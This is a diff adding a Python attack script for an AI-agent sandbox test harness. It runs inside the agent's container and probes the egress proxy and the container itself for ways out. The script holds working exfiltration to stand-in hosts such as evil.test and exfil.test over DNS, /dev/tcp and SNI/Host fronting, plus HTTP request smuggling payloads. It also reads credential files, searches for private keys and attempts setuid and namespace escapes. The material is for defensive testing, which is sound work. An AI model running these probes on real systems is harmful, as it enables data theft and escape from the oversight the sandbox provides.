@@ -1,0 +1,762 @@
+"""The attacker: runs INSIDE the bottle's agent container, as the agent, stdlib only.
+
+Copied into the agent's /tmp by the harness and run with ``python3``. It reads one JSON
+object on stdin (``plan``: per-case markers, secrets and addresses), tries every attack
+and prints one JSON object: per case, what the client saw. What the client saw is
+evidence for the report only; whether a case passed is decided by the harness from the
+observers outside the bottle (sink log, DNS log, audit log).
+
+Every probe is bounded (socket and subprocess timeouts); nothing here sleeps.
+"""
+
+from __future__ import annotations
+
+import base64
+import concurrent.futures
+import json
+import os
+import socket
+import ssl
+import subprocess
+import sys
+import urllib.parse
+from collections.abc import Callable
+from typing import Any
+
+PLAN: dict[str, Any] = {}
+PROXY = ("egress", 8080)
+MITM_CA = "/etc/bot-bottle/ca/ca.pem"
+TIMEOUT = 6.0
+JSON = "Content-Type: application/json"
+CASES: dict[str, Callable[[str], dict[str, Any]]] = {}
+
+
+def case(
+    case_id: str,
+) -> Callable[[Callable[[str], dict[str, Any]]], Callable[[str], dict[str, Any]]]:
+    def register(fn: Callable[[str], dict[str, Any]]) -> Callable[[str], dict[str, Any]]:
+        CASES[case_id] = fn
+        return fn
+
+    return register
+
+
+def short(data: bytes | str, n: int = 600) -> str:
+    if isinstance(data, bytes):
+        data = data.decode("latin-1")
+    return data[:n]
+
+
+def sh(cmd: str, timeout: float = 10, env: dict[str, str] | None = None) -> dict[str, Any]:
+    """Run ``cmd`` with bash; output (stdout+stderr) and exit status, never raising."""
+    try:
+        done = subprocess.run(
+            ["bash", "-c", cmd], capture_output=True, timeout=timeout, env=env, check=False
+        )
+        return {"rc": done.returncode, "out": short(done.stdout + done.stderr, 3000)}
+    except subprocess.TimeoutExpired as exc:
+        return {"rc": "timeout", "out": short((exc.stdout or b"") + (exc.stderr or b""))}
+
+
+def noproxy_env() -> dict[str, str]:
+    return {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
+
+
+def tcp(host: str, port: int, payload: bytes, timeout: float = 3) -> str:
+    """Connect and send ``payload`` directly (no proxy); what happened, as text."""
+    try:
+        with socket.create_connection((host, port), timeout=timeout) as s:
+            s.sendall(payload)
+            s.settimeout(timeout)
+            try:
+                reply = s.recv(200)
+            except OSError:
+                reply = b""
+            return "connected: " + short(reply, 100)
+    except OSError as exc:
+        return f"error: {exc.__class__.__name__}: {exc}"
+
+
+def udp(host: str, port: int, payload: bytes) -> str:
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(2)
+            s.sendto(payload, (host, port))
+            try:
+                return "reply: " + short(s.recv(200), 100)
+            except OSError as exc:
+                return f"sent, no reply ({exc.__class__.__name__})"
+    except OSError as exc:
+        return f"error: {exc.__class__.__name__}: {exc}"
+
+
+def _read_head(s: socket.socket) -> bytes:
+    data = b""
+    while b"\r\n\r\n" not in data and len(data) < 65536:
+        chunk = s.recv(4096)
+        if not chunk:
+            break
+        data += chunk
+    return data
+
+
+def _read_rest(s: socket.socket, limit: int = 8192) -> bytes:
+    data = b""
+    try:
+        while len(data) < limit:
+            chunk = s.recv(4096)
+            if not chunk:
+                break
+            data += chunk
+    except OSError:
+        pass
+    return data
+
+
+def tunnel(
+    host: str,
+    port: int,
+    payload: bytes | Callable[[], bytes],
+    *,
+    tls: bool = True,
+    sni: str | None = None,
+    cafile: str = MITM_CA,
+    alpn: list[str] | None = None,
+) -> dict[str, Any]:
+    """CONNECT through the proxy, optionally TLS (SNI ``sni``), send ``payload``, read back."""
+    out: dict[str, Any] = {}
+    try:
+        s = socket.create_connection(PROXY, timeout=TIMEOUT)
+        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
+        head = _read_head(s)
+        out["connect"] = short(head.split(b"\r\n", 1)[0], 200)
+        if b" 200" not in head.split(b"\r\n", 1)[0]:
+            s.close()
+            return out
+        if tls:
+            ctx = ssl.create_default_context(cafile=cafile)
+            if alpn:
+                ctx.set_alpn_protocols(alpn)
+            if sni is not None and sni != host:
+                ctx.check_hostname = False
+            s = ctx.wrap_socket(s, server_hostname=sni or host)
+            out["tls"] = "ok"
+        body = payload() if callable(payload) else payload
+        s.sendall(body)
+        out["response"] = short(_read_rest(s), 800)
+        s.close()
+    except (OSError, ValueError) as exc:
+        out["error"] = f"{exc.__class__.__name__}: {exc}"[:300]
+    return out
+
+
+def plain(raw: bytes) -> dict[str, Any]:
+    """Send raw bytes to the proxy as a plain-HTTP proxy request; what came back."""
+    try:
+        with socket.create_connection(PROXY, timeout=TIMEOUT) as s:
+            s.sendall(raw)
+            return {"response": short(_read_rest(s), 800)}
+    except OSError as exc:
+        return {"error": f"{exc.__class__.__name__}: {exc}"[:300]}
+
+
+def curl(args: str, timeout: float = 12) -> dict[str, Any]:
+    return sh(f"curl -sS -m 8 -w ' HTTP=%{{http_code}}' {args}", timeout=timeout)
+
+
+def http_req(method: str, target: str, host: str, headers: str = "", body: bytes = b"") -> bytes:
+    cl = f"Content-Length: {len(body)}\r\n" if body or method == "POST" else ""
+    return (
+        f"{method} {target} HTTP/1.1\r\nHost: {host}\r\n{headers}{cl}Connection: close\r\n\r\n"
+    ).encode() + body
+
+
+# ---------------------------------------------------------------- A. direct egress
+
+
+@case("A01")
+def routing_table(m: str) -> dict[str, Any]:
+    return {"routes": sh("ip -4 route; echo ---; ip -6 route; echo ---; cat /proc/net/route")}
+
+
+@case("A02")
+def direct_tcp(m: str) -> dict[str, Any]:
+    sink = PLAN["sink_ip"]
+    req = http_req("GET", f"/{m}", "allowed.test")
+    return {
+        "sink_80": tcp(sink, 80, req),
+        "sink_443": tcp(sink, 443, m.encode()),
+        "curl_noproxy": sh(f"curl -sS -m 3 --noproxy '*' http://{sink}/{m}", env=noproxy_env()),
+        "devtcp": sh(f"exec 3<>/dev/tcp/{sink}/80 && printf 'GET /{m} HTTP/1.0\\r\\n\\r\\n' >&3"),
+        "route_public": sh("ip route get 1.1.1.1; ip route get 8.8.8.8"),
+    }
+
+
+@case("A03")
+def proxy_unaware(m: str) -> dict[str, Any]:
+    return {
+        "curl": sh(f"curl -sS -m 4 --noproxy '*' https://allowed.test/{m}", env=noproxy_env()),
+        "getent": sh("getent hosts allowed.test"),
+    }
+
+
+@case("A04")
+def udp_out(m: str) -> dict[str, Any]:
+    sink, res = PLAN["sink_ip"], PLAN["resolver_ip"]
+    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
+    q += bytes([len(m)]) + m.encode() + b"\x04test\x00\x00\x01\x00\x01"
+    return {
+        "resolver_53": udp(res, 53, q),
+        "sink_443": udp(sink, 443, m.encode()),
+        "sink_123": udp(sink, 123, m.encode()),
+        "route_public": sh("ip route get 1.1.1.1"),
+    }
+
+
+@case("A05")
+def icmp(m: str) -> dict[str, Any]:
+    hexm = m.encode().hex()[:32]
+    return {
+        ip: sh(f"ping -c1 -W1 -p {hexm} {ip}")
+        for ip in (PLAN["sink_ip"], PLAN["internal_gateway"], PLAN["egress_gateway"])
+    }
+
+
+@case("A06")
+def ipv6(m: str) -> dict[str, Any]:
+    return {
+        "addr": sh("ip -6 addr"),
+        "disabled": sh("cat /proc/sys/net/ipv6/conf/all/disable_ipv6"),
+        "route": sh("ip -6 route get 2606:4700:4700::1111"),
+        "ping_ff02": sh("ping -6 -c1 -W1 ff02::1%eth0"),
+    }
+
+
+@case("A07")
+def gateway_scan(m: str) -> dict[str, Any]:
+    ports = (22, 80, 443, 2375, 2376, 3000, 5432, 6379, 8080, 11434)
+    out = {}
+    for gw in (PLAN["internal_gateway"], PLAN["egress_gateway"]):
+        for port in ports:
+            out[f"{gw}:{port}"] = tcp(gw, port, m.encode(), timeout=1)
+    return out
+
+
+@case("A08")
+def host_names(m: str) -> dict[str, Any]:
+    names = "host.docker.internal gateway.docker.internal kubernetes.docker.internal"
+    return {"getent": sh(f"getent hosts {names}")}
+
+
+@case("A09")
+def metadata(m: str) -> dict[str, Any]:
+    return {
+        "route": sh("ip route get 169.254.169.254; ip route get 100.100.100.200"),
+        "name": sh("getent hosts metadata.google.internal"),
+    }
+
+
+@case("A10")
+def peer_scan(m: str) -> dict[str, Any]:
+    peers = sh("getent hosts egress")["out"].split()
+    ip = peers[0] if peers else "egress"
+    open_ports: list[int] = []
+
+    def probe(port: int) -> None:
+        try:
+            with socket.create_connection((ip, port), timeout=1):
+                open_ports.append(port)
+        except OSError:
+            pass
+
+    with concurrent.futures.ThreadPoolExecutor(64) as pool:
+        list(pool.map(probe, range(1, 65536)))
+    udp53 = udp(ip, 53, b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x01")
+    return {"peer": ip, "open": sorted(open_ports), "udp53": udp53}
+
+
+@case("A11")
+def raw_sockets(m: str) -> dict[str, Any]:
+    out = {}
+    for name, args in (
+        ("packet", (socket.AF_PACKET, socket.SOCK_RAW, 0)),
+        ("raw_icmp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
+        ("raw_tcp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
+    ):
+        try:
+            socket.socket(*args).close()
+            out[name] = "created"
+        except OSError as exc:
+            out[name] = f"{exc.__class__.__name__}: {exc}"
+    return out
+
+
+@case("A12")
+def reconfigure(m: str) -> dict[str, Any]:
+    egress_ip = (sh("getent hosts egress")["out"].split() or ["egress"])[0]
+    return {
+        "route_add": sh(f"ip route add default via {egress_ip}"),
+        "addr_add": sh("ip addr add 10.254.254.254/32 dev eth0"),
+        "link_down": sh("ip link set lo down"),
+        "sysctl": sh("sysctl -w net.ipv4.ip_forward=1; echo 1 > /proc/sys/net/ipv4/ip_forward"),
+        "iptables": sh("iptables -L 2>&1 || true"),
+        "after": sh("ip -4 route"),
+        "then_direct": tcp(PLAN["sink_ip"], 80, http_req("GET", f"/{m}", "x")),
+    }
+
+
+# ---------------------------------------------------------------- B. DNS
+
+
+@case("B13")
+def embedded_dns(m: str) -> dict[str, Any]:
+    return {
+        "getent": sh(f"getent hosts {m}.exfil.test"),
+        "dig_a": sh(f"dig +time=2 +tries=1 @127.0.0.11 {m}-a.exfil.test A"),
+        "dig_aaaa": sh(f"dig +time=2 +tries=1 @127.0.0.11 {m}-aaaa.exfil.test AAAA"),
+    }
+
+
+@case("B14")
+def dns_types(m: str) -> dict[str, Any]:
+    out = {}
+    for t in ("TXT", "CNAME", "MX", "SRV", "NULL", "ANY", "NS"):
+        out[t] = sh(f"dig +time=2 +tries=1 @127.0.0.11 {m}-{t.lower()}.exfil.test {t}")
+    out["PTR"] = sh(f"dig +time=2 +tries=1 @127.0.0.11 {m}.7.113.0.203.in-addr.arpa PTR")
+    return out
+
+
+@case("B15")
+def dns_direct(m: str) -> dict[str, Any]:
+    res = PLAN["resolver_ip"]
+    return {
+        "tcp_embedded": sh(f"dig +tcp +time=2 +tries=1 @127.0.0.11 {m}-tcp.exfil.test"),
+        "udp_resolver": sh(f"dig +time=2 +tries=1 @{res} {m}-u.exfil.test"),
+        "tcp_resolver": sh(f"dig +tcp +time=2 +tries=1 @{res} {m}-t.exfil.test"),
+        "route_public_resolver": sh("ip route get 8.8.8.8; ip route get 9.9.9.9"),
+    }
+
+
+@case("B16")
+def doh_dot(m: str) -> dict[str, Any]:
+    return {
+        "doh_google": curl(f"'https://dns.google/resolve?name={m}.exfil.test'"),
+        "doh_cloudflare": curl(f"'https://cloudflare-dns.com/dns-query?name={m}.exfil.test'"),
+        "dot_ip": tunnel(PLAN["sink_ip"], 853, m.encode(), tls=False),
+    }
+
+
+@case("B17")
+def dns_via_proxy(m: str) -> dict[str, Any]:
+    return {
+        "https": curl(f"https://{m}.not-allowed.test/"),
+        "connect": tunnel(f"{m}-c.evil.test", 443, m.encode(), tls=False),
+        "http": curl(f"http://{m}-h.evil.test/"),
+        "plain_raw": plain(http_req("GET", f"http://{m}-r.evil.test/", f"{m}-r.evil.test")),
+    }
+
+
+@case("B18")
+def wildcard_label(m: str) -> dict[str, Any]:
+    return {
+        "sub_https": curl(f"https://{m}.allowed.test/"),
+        "sub_http": curl(f"http://{m}.plain.test/"),
+    }
+
+
+@case("B19")
+def resolver_peers(m: str) -> dict[str, Any]:
+    return {
+        "udp": sh(f"dig +time=2 +tries=1 @egress {m}.exfil.test"),
+        "tcp": sh(f"dig +tcp +time=2 +tries=1 @egress {m}-t.exfil.test"),
+    }
+
+
+# ---------------------------------------------------------------- C. proxy policy
+
+
+@case("C20")
+def connect_denied(m: str) -> dict[str, Any]:
+    return {
+        "curl": curl(f"https://example.org/{m}"),
+        "named": curl(f"https://{m}.example.org/"),
+    }
+
+
+@case("C21")
+def plain_denied(m: str) -> dict[str, Any]:
+    return {"curl": curl(f"http://example.org/{m}")}
+
+
+@case("C22")
+def ip_literals(m: str) -> dict[str, Any]:
+    sink = PLAN["sink_ip"]
+    a, b, c, d = (int(x) for x in sink.split("."))
+    as_int = (a << 24) | (b << 16) | (c << 8) | d
+    return {
+        "connect_ip": tunnel(sink, 443, http_req("GET", f"/{m}", sink)),
+        "dotted": curl(f"http://{sink}/{m}"),
+        "integer": plain(http_req("GET", f"http://{as_int}/{m}-i", str(as_int))),
+        "hex": plain(http_req("GET", f"http://0x{as_int:08x}/{m}-x", f"0x{as_int:08x}")),
+        "octal": plain(http_req("GET", f"http://0{a:o}.{b}.{c}.{d}/{m}-o", f"0{a:o}.{b}.{c}.{d}")),
+        "short": curl(f"http://127.1:8080/{m}-s"),
+        "zero": curl(f"http://0.0.0.0:8081/{m}-z"),
+        "mapped_v6": curl(f"-g 'http://[::ffff:{sink}]/{m}-6'"),
+        "nat64": curl(f"-g 'http://[64:ff9b::{a:02x}{b:02x}:{c:02x}{d:02x}]/{m}-n'"),
+    }
+
+
+@case("C23")
+def ssrf(m: str) -> dict[str, Any]:
+    return {
+        "localhost_8081": curl(f"http://localhost:8081/{m}-a"),
+        "self": curl(f"http://127.0.0.1:8080/{m}-b"),
+        "self_name": curl(f"http://egress:8080/{m}-c"),
+        "resolver_ip": tunnel(PLAN["resolver_ip"], 443, m.encode(), tls=False),
+        "resolver_name": curl(f"http://resolver/{m}-d"),
+        "sink_name": curl(f"http://sink/{m}-e"),
+        "metadata_literal": tunnel("169.254.169.254", 80, b"", tls=False),
+    }
+
+
+@case("C24")
+def confusables(m: str) -> dict[str, Any]:
+    long_name = ".".join([m] + ["a" * 60] * 4) + ".allowed.test"
+    return {
+        "userinfo": curl(f"'https://allowed.test:443@{m}-u.evil.test/'"),
+        "prefix": curl(f"https://{m}-allowed.test/"),
+        "suffix": curl(f"https://allowed.test.{m}.evil.test/"),
+        "glued": curl(f"https://{m}allowed.test/"),
+        "homoglyph": tunnel("\u0430llowed.test", 443, http_req("GET", f"/{m}-h", "x")),
+        "punycode": curl(f"https://xn--llowed-3ve.test/{m}-p"),
+        "long": curl(f"https://{long_name}/"),
+        "raw_connect_host": tunnel(f"allowed.test@{m}.evil.test", 443, m.encode(), tls=False),
+    }
+
+
+@case("C25")
+def rebinding(m: str) -> dict[str, Any]:
+    return {
+        "to_resolver": curl(f"https://rebind.allowed.test/{m}-r"),
+        "to_loopback": curl(f"https://loop.allowed.test/{m}-l"),
+    }
+
+
+@case("C26")
+def ports(m: str) -> dict[str, Any]:
+    return {
+        str(p): tunnel("allowed.test", p, f"{m}-{p}\r\n".encode(), tls=False)
+        for p in (22, 25, 6667, 8443)
+    }
+
+
+@case("C27")
+def sni_fronting(m: str) -> dict[str, Any]:
+    return {
+        "sni": tunnel(
+            "allowed.test", 443, http_req("GET", f"/{m}", "allowed.test"), sni=f"{m}.evil.test"
+        )
+    }
+
+
+@case("C28")
+def host_fronting(m: str) -> dict[str, Any]:
+    return {
+        "h1": curl(f"https://allowed.test/{m}-1 -H 'Host: {m}.evil.test'"),
+        "h2": curl(f"--http2 https://allowed.test/{m}-2 -H 'Host: {m}.evil.test'"),
+        "raw": tunnel("allowed.test", 443, http_req("GET", f"/{m}-3", f"{m}.evil.test")),
+    }
+
+
+@case("C29")
+def absolute_vs_host(m: str) -> dict[str, Any]:
+    return {"raw": plain(http_req("GET", f"http://plain.test/{m}", f"{m}.evil.test"))}
+
+
+@case("C30")
+def non_http_tunnel(m: str) -> dict[str, Any]:
+    return {
+        "ssh_banner": tunnel("allowed.test", 443, f"SSH-2.0-{m}\r\n".encode(), tls=False),
+        "binary": tunnel("allowed.test", 443, b"\x00\x01\x02" + m.encode() + b"\xff", tls=False),
+        "in_tls": tunnel("allowed.test", 443, f"SSH-2.0-{m}-t\r\n".encode()),
+    }
+
+
+@case("C31")
+def passthrough(m: str) -> dict[str, Any]:
+    ca = "/tmp/sink-ca.pem"
+    with open(ca, "w") as f:
+        f.write(PLAN["sink_ca"])
+    return {
+        "pinned": tunnel("allowed.test", 443, http_req("GET", "/pin", "allowed.test"), cafile=ca)
+    }
+
+
+@case("C32")
+def other_proxies(m: str) -> dict[str, Any]:
+    env = {**os.environ, "NO_PROXY": "*", "no_proxy": "*"}
+    return {
+        "no_proxy": sh(f"curl -sS -m 4 https://allowed.test/{m}-n", env=env),
+        "mitmweb": sh(f"curl -sS -m 4 -x http://egress:8081 http://allowed.test/{m}-w"),
+        "socks": sh(f"curl -sS -m 4 -x socks5h://egress:1080 http://allowed.test/{m}-s"),
+        "relay_3128": tcp("egress", 3128, m.encode(), timeout=2),
+    }
+
+
+@case("C34")
+def foreign_credentials(m: str) -> dict[str, Any]:
+    return {
+        "bearer": curl(f"https://api.allowed.test/v1 -H 'Authorization: Bearer {m}'"),
+        "userinfo": curl(f"https://x:{m}@api.allowed.test/u"),
+    }
+
+
+@case("C35")
+def redirect(m: str) -> dict[str, Any]:
+    a, b = m[: len(m) // 2], m[len(m) // 2 :]
+    return {
+        "https": curl(f"-L 'https://allowed.test/redirect?a={a}&b={b}&s=https'"),
+        "http": curl(f"-L 'http://plain.test/redirect?a={a}&b={b}&s=http'"),
+    }
+
+
+# ---------------------------------------------------------------- D. content scanning
+
+
+def secret(case_id: str) -> str:
+    return str(PLAN["secrets"][case_id])
+
+
+def https_post(path: str, body: bytes, headers: str = "") -> dict[str, Any]:
+    return tunnel("allowed.test", 443, http_req("POST", path, "allowed.test", headers, body))
+
+
+@case("D36")
+def secret_everywhere(m: str) -> dict[str, Any]:
+    s = secret("D36")
+    boundary = "bbxboundary"
+    multipart = (
+        f'--{boundary}\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n'
+        f"Content-Type: text/plain\r\n\r\n{s}\r\n--{boundary}--\r\n"
+    ).encode()
+    chunked = f"5;ext={s}\r\nhello\r\n{len(s):x}\r\n{s}\r\n0\r\n\r\n".encode()
+    trailer = b"5\r\nhello\r\n0\r\nX-Trailer: " + s.encode() + b"\r\n\r\n"
+    return {
+        "path": curl(f"https://allowed.test/p/{s}"),
+        "query": curl(f"'https://allowed.test/q?token={s}'"),
+        "header": curl(f"https://allowed.test/h -H 'X-Data: {s}'"),
+        "cookie": curl(f"https://allowed.test/c -b 'session={s}'"),
+        "json": curl(f"https://allowed.test/j -H '{JSON}' -d '{{\"k\":\"{s}\"}}'"),
+        "multipart": https_post(
+            "/m", multipart, f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
+        ),
+        "form": curl(f"https://allowed.test/f --data-urlencode 'k={s}'"),
+        "chunked": tunnel("allowed.test", 443, (
+            b"POST /ch HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n"
+            b"Connection: close\r\n\r\n") + chunked),
+        "trailers": tunnel("allowed.test", 443, (
+            b"POST /tr HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n"
+            b"Trailer: X-Trailer\r\nConnection: close\r\n\r\n") + trailer),
+        "http2": curl(f"--http2 https://allowed.test/h2 -d 'v={s}'"),
+        "basic_auth": curl(f"https://u:{s}@allowed.test/ba"),
+        "plain_http": curl(f"http://plain.test/x -d 'v={s}'"),
+    }  # fmt: skip
+
+
+@case("D37")
+def encodings(m: str) -> dict[str, Any]:
+    out = {}
+    for name, (encoding, payload_b64) in PLAN["encoded"].items():
+        body = base64.b64decode(payload_b64)
+        out[name] = https_post(f"/e/{name}", body, f"Content-Encoding: {encoding}\r\n")
+    return out
+
+
+@case("D38")
+def transforms(m: str) -> dict[str, Any]:
+    s = secret("D38").encode()
+    variants = {
+        "base64": base64.b64encode(s),
+        "base64url": base64.urlsafe_b64encode(s).rstrip(b"="),
+        "hex": s.hex().encode(),
+        "urlencoded": urllib.parse.quote(s.decode(), safe="").replace("_", "%5F").encode(),
+    }
+    return {k: https_post(f"/t/{k}", b"data=" + v) for k, v in variants.items()}
+
+
+@case("D39")
+def large_body(m: str) -> dict[str, Any]:
+    s = secret("D39").encode()
+    size = 40 << 20
+    big = b"a" * (size - 1024) + s + b"b" * (1024 - len(s))
+
+    def chunked() -> bytes:
+        return (
+            b"POST /big-ch HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n"
+            + f"{len(big):x}\r\n".encode()
+            + big
+            + b"\r\n0\r\n\r\n"
+        )
+
+    return {
+        "content_length": https_post("/big-cl", big),
+        "chunked": tunnel("allowed.test", 443, chunked),
+    }
+
+
+@case("D40")
+def bomb(m: str) -> dict[str, Any]:
+    body = base64.b64decode(PLAN["bomb"])
+    return {"gzip_bomb": https_post("/bomb", body, "Content-Encoding: gzip\r\n")}
+
+
+@case("D42")
+def smuggling(m: str) -> dict[str, Any]:
+    hidden = f"GET /{m} HTTP/1.1\r\nHost: {m}.evil.test\r\n\r\n"
+    n = len(hidden)
+    base = "POST http://plain.test/s HTTP/1.1\r\nHost: plain.test\r\n"
+    raw = {
+        "cl_te": base + f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
+        "te_xchunked": base + f"Transfer-Encoding: xchunked\r\nContent-Length: {n}\r\n\r\n{hidden}",
+        "te_chunked_identity": base
+        + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"
+        + hidden,
+        "te_duplicate": base
+        + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"
+        + hidden,
+        "two_cl": base + f"Content-Length: 0\r\nContent-Length: {n}\r\n\r\n{hidden}",
+        "obs_fold": base + f"X-A: 1\r\n Host: {m}.evil.test\r\nContent-Length: 0\r\n\r\n",
+        "bare_lf": (base + "Content-Length: 0\n\n" + hidden).replace("\r\n", "\n"),
+        "nul_header": base + f"X-A: a\x00b\r\nContent-Length: {n}\r\n\r\n{hidden}",
+        "cr_header": base + f"X-A: a\rHost: {m}.evil.test\r\nContent-Length: 0\r\n\r\n",
+        "h2c": "GET http://plain.test/u HTTP/1.1\r\nHost: plain.test\r\nUpgrade: h2c\r\n"
+        "Connection: Upgrade, HTTP2-Settings\r\n"
+        "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n" + hidden,
+        "http09": f"GET http://{m}.evil.test/{m}\r\n\r\n",
+    }  # fmt: skip
+    return {k: plain(v.encode("latin-1")) for k, v in raw.items()}
+
+
+# ---------------------------------------------------------------- E. container / host
+
+
+@case("E44")
+def docker_socket(m: str) -> dict[str, Any]:
+    return {
+        "sockets": sh("ls -la /var/run/docker.sock /run/docker.sock 2>&1; "
+                      "find / -xdev -type s 2>/dev/null | grep -v '^/proc' | head -20"),
+        "env": sh("env | grep -i docker || true"),
+        "cli": sh("command -v docker || echo no-docker-cli"),
+        "tcp": {p: tcp("egress", p, b"", timeout=1) for p in (2375, 2376)},
+    }  # fmt: skip
+
+
+@case("E45")
+def privileges(m: str) -> dict[str, Any]:
+    return {
+        "status": sh(
+            "grep -E '^(Uid|Cap(Eff|Prm|Bnd|Inh|Amb)|NoNewPrivs|Seccomp):' /proc/self/status"
+        ),
+        "setuid": sh("cp /bin/bash /tmp/sb && chmod u+s /tmp/sb; /tmp/sb -p -c 'id -u'"),
+        "sudo": sh("sudo -n true 2>&1; su -c true root </dev/null 2>&1; echo done"),
+    }  # fmt: skip
+
+
+@case("E46")
+def namespaces(m: str) -> dict[str, Any]:
+    return {
+        "unshare_user": sh("unshare -Ur true"),
+        "unshare_net": sh("unshare -n true"),
+        "mount": sh("mkdir -p /tmp/mnt && mount -t tmpfs x /tmp/mnt"),
+        "nsenter": sh("nsenter -t 1 -n true"),
+        "sysrq": sh("echo h > /proc/sysrq-trigger"),
+        "proc_sys": sh(f"echo {m[:30]} > /proc/sys/kernel/hostname"),
+        "sys": sh("echo 1 > /sys/kernel/mm/ksm/run"),
+        "kcore": sh("head -c 16 /proc/kcore | wc -c"),
+        "ps": sh("ps -eo uid=,comm="),
+        "mknod": sh("mknod /tmp/null c 1 3"),
+        "hardlink": sh("ln /etc/shadow /tmp/shadow-link"),
+        "rootfs_write": sh("echo x > /usr/bin/bb-escape-write"),
+    }
+
+
+@case("E47")
+def ca_key(m: str) -> dict[str, Any]:
+    return {
+        "private_keys": sh("grep -rlIE --exclude-dir=proc --exclude-dir=sys "
+                           "-e '^-----BEGIN [A-Z ]*PRIVATE KEY-----$' / "
+                           "2>/dev/null | head", timeout=60),
+        "mitm_files": sh("find / -xdev \\( -name 'mitmproxy-ca*' -o -name '*.p12' \\) "
+                         "2>/dev/null | grep -v '^/proc' | head"),
+        "mountinfo": sh("grep -i -E 'mitm|confdir' /proc/self/mountinfo || true"),
+        "mitm_it": curl("http://mitm.it/cert/p12"),
+    }  # fmt: skip
+
+
+@case("E48")
+def credentials(m: str) -> dict[str, Any]:
+    return {
+        "env": sh("env; tr '\\0' '\\n' < /proc/1/environ"),
+        "files": sh("cat ~/.netrc ~/.git-credentials ~/.docker/config.json "
+                    "~/.config/gh/hosts.yml ~/.npmrc 2>&1 | head -20"),
+    }  # fmt: skip
+
+
+@case("F51")
+def queue_visibility(m: str) -> dict[str, Any]:
+    return {
+        "mounts": sh("cat /proc/self/mountinfo"),
+        "writable": sh(
+            "find / -xdev -writable -type d 2>/dev/null | grep -v -E '^/(proc|tmp|home)' | head"
+        ),
+    }  # fmt: skip
+
+
+# ---------------------------------------------------------------- legit traffic
+
+
+@case("L01")
+def legit_https(m: str) -> dict[str, Any]:
+    return {"get": curl(f"https://allowed.test/legit/{m}")}
+
+
+@case("L02")
+def legit_http(m: str) -> dict[str, Any]:
+    return {"get": curl(f"http://plain.test/legit/{m}")}
+
+
+@case("L03")
+def legit_post(m: str) -> dict[str, Any]:
+    return {"post": curl(f"https://allowed.test/post -H '{JSON}' -d '{{\"note\":\"{m}\"}}'")}
+
+
+@case("L04")
+def legit_injection(m: str) -> dict[str, Any]:
+    return {"get": curl(f"https://api.allowed.test/legit/{m}")}
+
+
+@case("L05")
+def legit_redirect_same_host(m: str) -> dict[str, Any]:
+    return {"get": curl(f"-L 'https://allowed.test/redirect?to=/legit/{m}'")}
+
+
+def main() -> None:
+    PLAN.update(json.load(sys.stdin))
+    wanted = PLAN["cases"]
+    results: dict[str, Any] = {}
+
+    def run(case_id: str) -> None:
+        try:
+            results[case_id] = CASES[case_id](PLAN["markers"][case_id])
+        except Exception as exc:
+            results[case_id] = {"crashed": f"{exc.__class__.__name__}: {exc}"}
+
+    with concurrent.futures.ThreadPoolExecutor(PLAN.get("workers", 6)) as pool:
+        list(pool.map(run, [c for c in wanted if c in CASES]))
+    for c in wanted:
+        results.setdefault(c, {"crashed": "no such attack in agent_attacks.py"})
+    json.dump(results, sys.stdout)
+
+
+if __name__ == "__main__":
+    main()
